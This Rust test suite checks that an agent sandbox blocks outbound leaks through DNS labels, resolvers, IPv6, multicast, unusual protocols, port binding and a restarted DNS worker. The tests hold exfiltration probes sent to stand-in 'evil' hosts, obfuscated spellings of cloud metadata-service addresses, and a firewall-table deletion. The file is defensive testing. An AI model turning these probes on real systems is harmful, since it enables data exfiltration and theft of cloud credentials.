//! What gets out of the box, and by what: DNS, addresses, protocols, and whoever asks.

use crate::rig::{AGENT, BoxOptions, Mark, ROOT, Rig, RunningBox, host, must};

/// Whatever was sent there since then, as text.
fn packets_to(rig: &Rig, since: Mark, address: &str) -> Vec<String> {
    let packets = rig.world.packets_since(since);
    packets.iter().filter(|packet| packet["dst"] == address).map(ToString::to_string).collect()
}

/// It is in the status, which hears of it after the client.
#[track_caller]
fn is_told(guest: &RunningBox, what: &str) {
    guest.await_status(&format!("refusal of {what}"), |status| {
        let denials = status["denials"].as_array().cloned().unwrap_or_default();
        denials.iter().any(|denial| denial["what"].as_str().is_some_and(|text| text.contains(what)))
    });
}

#[test]
fn t01_labels_below_an_exact_name_never_leave() {
    let Some(rig) = Rig::new() else { return };
    rig.outside(&["dns", "9.9.9.53", "control726f6f74.ok.test", "TXT"]);
    assert!(rig.world.asked().contains(&"control726f6f74.ok.test".to_owned()));
    let guest = rig.boot(&BoxOptions::new().allow("ok.test;*.wild.test"));
    for kind in ["A", "AAAA", "TXT", "NULL", "HTTPS"] {
        let answer = guest.client(AGENT, &["dns", "127.0.0.53", "leak726f6f74.ok.test", kind]);
        assert_eq!(answer.out, "NXDOMAIN\n", "{kind}: {answer:?}");
    }
    guest.exec_agent("getent hosts leak726f6f74.ok.test");
    // The resolver does ask for names below a wildcard, so silence means something.
    let wild = guest.client(AGENT, &["dns", "127.0.0.53", "a.b.wild.test"]);
    assert!(wild.out.contains(&host("ok")), "{wild:?}");
    let asked = rig.world.asked();
    assert!(asked.contains(&"a.b.wild.test".to_owned()));
    assert!(!asked.iter().any(|name| name.contains("leak726f6f74")), "{asked:?}");
    assert!(!rig.world.saw("leak726f6f74"));
    is_told(&guest, "leak726f6f74.ok.test");
}

#[test]
fn t03_t04_hard_coded_resolvers_are_answered_by_the_box() {
    let Some(rig) = Rig::new() else { return };
    let servers = ["google_dns", "cloudflare_dns", "evil", "evil_v6", "upstream", "upstream2"].map(host);
    for server in &servers {
        for transport in ["udp", "tcp"] {
            let answer = rig.outside(&["dns", server, "control.evil.test", "TXT", transport]);
            assert!(answer.out.contains("token-txt-evil.test"), "{server} {transport}: {answer:?}");
        }
    }
    let guest = rig.boot(&BoxOptions::new());
    let mark = rig.world.sync();
    let answered = format!("NOERROR {}", host("ok"));
    let questions = servers.iter().flat_map(|server| {
        ["udp", "tcp"].into_iter().flat_map(move |transport| {
            [["dns", server, "leak.evil.test", "TXT", transport], ["dns", server, "ok.test", "A", transport]]
        })
    });
    let questions: Vec<Vec<String>> = questions.map(|words| words.map(str::to_owned).to_vec()).collect();
    // What is no DNS goes the same way, and nowhere.
    let noise =
        servers.iter().map(|server| ["udp", server, "53", "leaked bytes"].map(str::to_owned).to_vec());
    let noise: Vec<Vec<String>> = noise.collect();
    for user in [AGENT, ROOT] {
        for (question, answer) in questions.iter().zip(guest.clients(Some(user), &questions)) {
            let expected = if question[2] == "ok.test" { answered.as_str() } else { "NXDOMAIN" };
            assert_eq!(answer.out.trim(), expected, "{question:?} as {user}: {answer:?}");
        }
        guest.clients(Some(user), &noise);
    }
    assert!(!rig.world.saw("leak"), "{:?}", rig.world.asked());
    for server in servers.iter().filter(|server| **server != host("upstream")) {
        assert_eq!(packets_to(&rig, mark, server), [] as [String; 0]);
    }
    // Of the agent's own packets none may reach the configured upstream either: what arrives is the worker's.
    assert!(rig.world.asked().iter().all(|name| !name.contains("leak")));
}

#[test]
fn t24_search_domains_do_not_carry_a_denied_name_upstream() {
    let options = ["--dns-search", "corp.test", "--dns-opt", "ndots:5"];
    let Some(rig) = Rig::with_resolver(|_| {}, &options) else { return };
    rig.in_pause("getent hosts controlsecret");
    assert!(rig.world.asked().contains(&"controlsecret.corp.test".to_owned()), "{:?}", rig.world.asked());
    let guest = rig.boot(&BoxOptions::new());
    guest.as_session("getent hosts leaksecret; curl -sS -m 2 http://leaksecret/; python3 -c 'import socket; socket.gethostbyname(\"leaksecret\")'");
    guest.exec_root("getent hosts leaksecret");
    assert!(!rig.world.saw("leaksecret"), "{:?}", rig.world.asked());
    let file = guest.exec_agent("cat /etc/resolv.conf").out;
    assert!(!file.contains("corp.test") && !file.contains("ndots"), "{file}");
}

#[test]
fn t25_ipv6_literals_are_refused_by_tcp_udp_and_ping() {
    let Some(rig) = Rig::new() else { return };
    let evil = host("evil_v6");
    let attempts: [&[&str]; 5] = [
        &["tcp", &evil, "80", "GET /leak HTTP/1.0\r\n\r\n"],
        &["tcp", &evil, "443", "leak"],
        &["tcp", &evil, "9999", "leak"],
        &["udp", &evil, "9999", "leak"],
        &["ping", &evil, "leak"],
    ];
    for attempt in attempts {
        let answer = rig.outside(attempt);
        assert!(answer.ok(), "{attempt:?}: {answer:?}");
    }
    let guest = rig.boot(&BoxOptions::new().allow("ok.test;onlysix.test"));
    let mark = rig.world.sync();
    for attempt in attempts {
        for (who, answer) in [
            ("session", guest.client_as_session(attempt)),
            ("agent", guest.client(AGENT, attempt)),
            ("root", guest.client(ROOT, attempt)),
        ] {
            assert!(!answer.ok(), "{who} {attempt:?}: {answer:?}");
        }
    }
    guest.client(AGENT, &["ping", "ff02::1%eth0", "leak"]);
    assert_eq!(packets_to(&rig, mark, &evil), [] as [String; 0]);
    assert_eq!(packets_to(&rig, mark, "ff02::1"), [] as [String; 0]);
    // An allowed name that has nothing but an IPv6 address works, so it is the policy that refuses the others.
    let allowed =
        guest.exec_agent("curl -sS -m 10 --cacert /run/innkeeper/etc/ca-bundle.pem https://onlysix.test/");
    assert!(allowed.out.contains(&format!("token-{}", host("ok_v6"))), "{allowed:?}");
}

/// The tests above turn red when the rules are gone: what fails in them fails because of the rules.
#[test]
fn without_the_rules_everything_gets_through_and_status_says_so() {
    let Some(rig) = Rig::new() else { return };
    let guest = rig.boot(&BoxOptions::new());
    let (evil, evil_v6) = (host("evil"), host("evil_v6"));
    let attempts: [&[&str]; 6] = [
        &["tcp", &evil, "80", "GET /leak HTTP/1.0\r\n\r\n"],
        &["udp", &evil, "443", "leak"],
        &["ping", &evil, "leak"],
        &["tcp", &evil_v6, "9999", "leak"],
        &["ping", &evil_v6, "leak"],
        &["dns", "8.8.8.8", "x.evil.test", "TXT"],
    ];
    let through = || attempts.iter().filter(|attempt| guest.client(AGENT, attempt).ok()).count();
    // The question is answered, with NXDOMAIN.
    assert_eq!(through(), 1);
    assert!(guest.innkeeper(&["status", "--check", "ready"]).ok());
    // PID 1 would repair it before anybody could look.
    let pid = guest.pid().to_string();
    must("kill", &["-STOP", &pid]);
    rig.inside("nft delete table inet innkeeper").expect("the table is there");
    assert_eq!(through(), attempts.len());
    assert!(rig.world.asked().contains(&"x.evil.test".to_owned()));
    must("kill", &["-CONT", &pid]);
    guest.await_status("a repair", |status| status["warnings"].to_string().contains("repaired"));
    assert_eq!(through(), 1);
    assert!(guest.innkeeper(&["status", "--check", "ready"]).ok());
}

/// Where clouds keep the keys of a machine, by every spelling that programs understand.
const METADATA: &[&str] = &[
    "169.254.169.254",
    "2852039166",
    "0xa9fea9fe",
    "0251.0376.0251.0376",
    "169.254.43518",
    "[::ffff:169.254.169.254]",
    "[::ffff:a9fe:a9fe]",
    "[fd00:ec2::254]",
    "169.254.170.2",
    "168.63.129.16",
    "100.100.100.200",
    "192.0.0.192",
];
const METADATA_ADDRESSES: &[&str] =
    &["169.254.169.254", "fd00:ec2::254", "169.254.170.2", "168.63.129.16", "100.100.100.200", "192.0.0.192"];

#[test]
fn t32_the_metadata_service_is_out_of_reach_by_every_spelling() {
    let Some(rig) = Rig::new() else { return };
    let ask_for = |seconds: u8, target: &str| {
        format!("curl -gsS -m {seconds} --noproxy '*' http://{target}/latest/meta-data/")
    };
    let ask = |target: &str| ask_for(3, target);
    for spelling in METADATA {
        let answer = rig.inside(&ask_for(20, spelling));
        assert!(answer.out.contains("token-"), "{spelling}: {answer:?}");
    }
    // The operator allowed a name whose owner lets it point at the metadata service, even as a private one.
    let rules = "ok.test;metadata.test:80,443;rebound.test:80,443 private";
    rig.world.zone(|zone| zone["records"]["rebound.test"] = serde_json::json!([["A", "169.254.169.254", 5]]));
    let resolved = rig.outside(&["dns", "9.9.9.53", "metadata.test"]);
    assert_eq!(resolved.out.trim(), "NOERROR 169.254.169.254");
    let guest = rig.boot(&BoxOptions::new().allow(rules));
    let mark = rig.world.sync();
    for target in METADATA.iter().chain(&["metadata.test", "rebound.test"]) {
        for user in [AGENT, ROOT] {
            let answer = guest.exec(user, &ask(target));
            // The gate may answer in its stead.
            assert!(!answer.out.contains("token-"), "{target} as {user}: {answer:?}");
        }
    }
    for address in METADATA_ADDRESSES {
        assert_eq!(packets_to(&rig, mark, address), [] as [String; 0]);
    }
    // The name is allowed indeed: an honest answer gets through.
    rig.world.zone(|zone| zone["records"]["metadata.test"] = serde_json::json!([["A", host("ok2"), 5]]));
    let honest = guest.await_answer(&ask("metadata.test"), "token-");
    assert!(honest.contains(&host("ok2")), "{honest}");
}

#[test]
fn t45_the_policy_holds_for_every_process_in_the_network() {
    let Some(rig) = Rig::new() else { return };
    let (evil, evil_v6) = (host("evil"), host("evil_v6"));
    let ok = host("ok");
    let attempts: [&[&str]; 9] = [
        &["tcp", &evil, "80", "GET /leak HTTP/1.0\r\n\r\n"],
        &["tcp", &evil, "443", "leak"],
        &["tcp", &evil, "22", "leak"],
        &["udp", &evil, "443", "leak"],
        &["ping", &evil, "leak"],
        &["tcp", &evil_v6, "9999", "leak"],
        // Other ports and protocols of an address that is open.
        &["tcp", &ok, "22", "leak"],
        &["udp", &ok, "443", "leak"],
        &["ping", &ok, "leak"],
    ];
    for attempt in attempts {
        let answer = rig.outside(attempt);
        assert!(answer.ok(), "{attempt:?}: {answer:?}");
    }
    let guest = rig.boot(&BoxOptions::new());
    let allowed = ["tcp", &ok, "80", "GET /allowed HTTP/1.0\r\nHost: ok.test\r\n\r\n"];
    let mark = rig.world.sync();
    let all: Vec<Vec<String>> =
        attempts.iter().map(|attempt| attempt.iter().map(|word| (*word).to_owned()).collect()).collect();
    for (who, user) in [("the agent", AGENT), ("root", ROOT), ("nobody", "65534")] {
        for (attempt, answer) in attempts.iter().zip(guest.clients(Some(user), &all)) {
            assert!(!answer.ok(), "docker exec as {who} {attempt:?}: {answer:?}");
        }
    }
    for attempt in attempts {
        let answer = rig.outside(attempt);
        assert!(!answer.ok(), "nsenter {attempt:?}: {answer:?}");
    }
    for user in [AGENT, ROOT] {
        let answer = guest.client(user, &allowed);
        assert!(answer.out.contains("token-"), "{user}: {answer:?}");
    }
    for address in [&evil, &evil_v6] {
        assert_eq!(packets_to(&rig, mark, address), [] as [String; 0]);
    }
    let to_ok = rig.world.packets_since(mark).into_iter().filter(|packet| packet["dst"] == ok.as_str());
    assert!(to_ok.into_iter().all(|packet| packet["proto"] == "tcp" && packet["dport"] == 80));
}

#[test]
fn t26_t33_the_link_and_its_groups_carry_nothing() {
    let Some(rig) = Rig::new() else { return };
    let groups =
        ["224.0.0.251", "239.1.2.3", "255.255.255.255", "172.31.77.7", "ff02::fb%eth0", "ff02::1%eth0"];
    let send = |sign: &str, group: &str| {
        format!(
            "import socket; s = socket.socket(socket.AF_INET{}, socket.SOCK_DGRAM); \
             s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1); \
             s.sendto(b'{sign} {group}', socket.getaddrinfo('{group}', 5353, type=socket.SOCK_DGRAM)[0][4])",
            if group.contains(':') { "6" } else { "" }
        )
    };
    for group in groups {
        rig.inside(&format!("python3 -c \"{}\"", send("control", group)));
        assert!(rig.world.saw(&format!("control {group}")), "{group}");
    }
    let neighbours = ["172.31.77.1", "fd77::1"];
    for neighbour in neighbours {
        assert!(rig.outside(&["tcp", neighbour, "80", "GET / HTTP/1.0\r\n\r\n"]).ok(), "{neighbour}");
    }
    let guest = rig.boot(&BoxOptions::new());
    let mark = rig.world.sync();
    for group in groups {
        guest.exec_program(AGENT, &["python3", "-c", &send("leak", group)]);
        guest.exec_program(ROOT, &["python3", "-c", &send("leak", group)]);
    }
    for neighbour in neighbours {
        for attempt in ["tcp", "udp"] {
            assert!(!guest.client(AGENT, &[attempt, neighbour, "443", "leak"]).ok(), "{neighbour}");
        }
        assert!(!guest.client(AGENT, &["ping", neighbour, "leak"]).ok(), "{neighbour}");
    }
    let packets = rig.world.packets_since(mark);
    assert!(packets.iter().all(|packet| packet["dst"] == "9.9.9.53"), "{packets:?}");
}

/// Protocols beside TCP and UDP that a socket of the agent's can speak, where the kernel has them.
const ODD_PROTOCOLS: &[(&str, &str)] = &[
    ("udplite", "socket.SOCK_DGRAM, 136"),
    ("dccp", "6, 33"),
    ("sctp", "socket.SOCK_STREAM, 132"),
    ("mptcp", "socket.SOCK_STREAM, 262"),
];

#[test]
fn t45_no_other_protocol_gets_through_to_an_open_address() {
    let Some(rig) = Rig::new() else { return };
    // Port 80 of ok.test is open for TCP alone; its port 9999 for nobody.
    let attempt = |protocol: &str, port: u16| {
        format!(
            "import socket; s = socket.socket(socket.AF_INET, {protocol}); s.settimeout(1); \
             s.connect(('{}', {port})); s.send(b'odd')",
            host("ok")
        )
    };
    let run = |guest: Option<&RunningBox>, code: &str| match guest {
        Some(guest) => guest.exec_program(AGENT, &["python3", "-c", code]),
        None => rig.inside(&format!("python3 -c \"{code}\"")),
    };
    let arrived = |since: Mark| {
        let packets = rig.world.packets_since(since);
        packets.into_iter().filter(|packet| packet["dst"] == host("ok").as_str()).collect::<Vec<_>>()
    };
    let spoken: Vec<&(&str, &str)> = ODD_PROTOCOLS
        .iter()
        .filter(|(_, protocol)| {
            let mark = rig.world.sync();
            run(None, &attempt(protocol, 9999));
            !arrived(mark).is_empty()
        })
        .collect();
    assert!(!spoken.is_empty(), "this kernel speaks none of them");
    let guest = rig.boot(&BoxOptions::new());
    for (name, protocol) in spoken {
        for port in [80, 9999] {
            let mark = rig.world.sync();
            run(Some(&guest), &attempt(protocol, port));
            let packets = arrived(mark);
            let open_tcp = |packet: &serde_json::Value| packet["proto"] == "tcp" && packet["dport"] == 80;
            assert!(packets.iter().all(open_tcp), "{name} to {port}: {packets:?}");
        }
    }
}

/// A server that answers whatever comes with its own sign, on every local address.
const SQUATTER: &str = r#"
import socket, threading, sys
def udp(host, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((host, port))
    def serve():
        while True:
            data, peer = s.recvfrom(4096)
            s.sendto(data[:2] + b"squatter", peer)
    threading.Thread(target=serve, daemon=True).start()
def tcp(host, port):
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((host, port))
    s.listen()
    def serve():
        while True:
            connection, _ = s.accept()
            connection.sendall(b"squatter")
            connection.close()
    threading.Thread(target=serve, daemon=True).start()
for kind in (udp, tcp):
    for host, port in (("127.0.0.1", 53), ("127.0.0.1", 80), ("127.0.0.1", 443), ("0.0.0.0", 8888), ("127.0.0.53", 53), ("0.0.0.0", 53)):
        try:
            kind(host, port)
            print(kind.__name__, host, port, "bound", flush=True)
        except OSError as error:
            print(kind.__name__, host, port, error.__class__.__name__, flush=True)
print("serving", flush=True)
sys.stdin.read()
"#;

#[test]
fn t204_ports_that_the_agent_binds_change_nothing_for_others() {
    let Some(rig) = Rig::new() else { return };
    let inbound = |port: &str| rig.world_client(&["tcp", "172.31.77.2", port, "hello"]);
    let mut listener = rig.spawn_inside(&["python3", "-c", SQUATTER]);
    while listener.hear() != "serving" {}
    assert_eq!(inbound("8888").out, "squatter\n", "before the box, the world gets in");
    drop(listener.end());

    let guest = rig.boot(&BoxOptions::new());
    let mut squatter = guest.spawn(AGENT, &["python3", "-c", SQUATTER]);
    let mut bound = Vec::new();
    loop {
        match squatter.hear() {
            line if line == "serving" => break,
            line => bound.push(line),
        }
    }
    // The kernel lets the agent have them; if it did not, this test would show nothing.
    for mine in ["udp 127.0.0.1 53 bound", "tcp 127.0.0.1 80 bound", "tcp 127.0.0.1 443 bound"] {
        assert!(bound.iter().any(|line| line == mine), "{bound:?}");
    }
    assert!(!bound.iter().any(|line| line.ends_with("127.0.0.53 53 bound")), "{bound:?}");
    let mark = rig.world.sync();
    for user in [AGENT, ROOT] {
        for transport in ["udp", "tcp"] {
            for server in ["127.0.0.53", "8.8.8.8"] {
                let allowed = guest.client(user, &["dns", server, "ok.test", "A", transport]);
                assert_eq!(allowed.out.trim(), format!("NOERROR {}", host("ok")), "{server}");
                let denied = guest.client(user, &["dns", server, "leak.evil.test", "A", transport]);
                assert_eq!(denied.out, "NXDOMAIN\n", "{server}");
            }
        }
        let page = guest.exec(user, "curl -sS http://ok.test/");
        assert!(page.out.contains("token-"), "{page:?}");
    }
    assert!(!inbound("8888").ok(), "the box is closed from outside");
    assert!(!inbound("80").ok(), "the box is closed from outside");
    assert_eq!(packets_to(&rig, mark, "8.8.8.8"), [] as [String; 0]);
    assert!(!rig.world.saw("leak"));
    squatter.end();
}

#[test]
fn t83_a_killed_dns_worker_comes_back_and_nothing_opens_meanwhile() {
    let Some(rig) = Rig::new() else { return };
    assert!(rig.outside(&["dns", "8.8.8.8", "control.evil.test", "TXT"]).ok());
    let guest = rig.boot(&BoxOptions::new());
    let worker = |status: &serde_json::Value| {
        let workers = status["workers"].as_array().unwrap();
        let dns = workers.iter().find(|worker| worker["name"] == "dns").unwrap();
        (dns["pid"].as_i64(), dns["restarts"].as_u64().unwrap())
    };
    let before = guest.status();
    let (pid, restarts) = worker(&before);
    let mark = rig.world.sync();
    // Stopped first: its sockets stay, and nobody answers.
    guest.exec_root(&format!("kill -STOP {}", pid.unwrap())).expect("stopping the worker");
    let silent = guest.client(AGENT, &["dns", "8.8.8.8", "leak1.evil.test", "TXT"]);
    assert!(!silent.ok(), "nobody can have answered: {silent:?}");
    assert!(!guest.client(AGENT, &["tcp", &host("evil"), "443", "leak"]).ok());
    // On a slow machine it has been found to hang by now, and was ended for that.
    guest.exec_root(&format!("kill -KILL {} || true", pid.unwrap())).expect("killing the worker");
    let asked = std::thread::scope(|scope| {
        let asking = scope.spawn(|| guest.client(AGENT, &["dns", "1.1.1.1", "leak2.evil.test", "TXT"]));
        guest.await_line("; starting it again").expect("a line about the worker's end");
        asking.join().unwrap()
    });
    assert!(!asked.out.contains("token"), "{asked:?}");
    let after = guest.await_status("another worker", |status| {
        let (new, count) = worker(status);
        new.is_some() && new != pid && count == restarts + 1
    });
    assert_eq!(after["policy"], before["policy"]);
    let answer = guest.client(AGENT, &["dns", "8.8.8.8", "ok.test"]);
    assert_eq!(answer.out.trim(), format!("NOERROR {}", host("ok")));
    assert_eq!(guest.client(AGENT, &["dns", "8.8.8.8", "leak3.evil.test"]).out, "NXDOMAIN\n");
    assert!(!rig.world.saw("leak"));
    for server in ["8.8.8.8", "1.1.1.1", &host("evil")] {
        assert_eq!(packets_to(&rig, mark, server), [] as [String; 0]);
    }
    assert!(after["protections"].as_array().unwrap().iter().all(|one| one["held"] == true));
}
